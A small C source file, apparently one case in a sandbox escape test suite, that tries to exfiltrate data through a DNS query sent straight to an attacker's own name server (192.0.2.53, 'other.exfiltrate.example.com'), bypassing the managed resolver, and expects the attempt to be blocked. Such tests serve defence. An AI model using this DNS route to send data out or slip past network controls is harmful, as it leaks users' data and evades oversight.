/* A name server of the attack's own. */
#include "../attack.h"

#include "dns.h"

ATTACK(NETWORK, "attempts", .gain = "data out, past the resolver that is looked after",
       .source = "CVE-2025-55284", .event = "network.blocked", .with = "address=192.0.2.53",
       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
{
	return dns_ask("192.0.2.53", "other.exfiltrate.example.com");
}
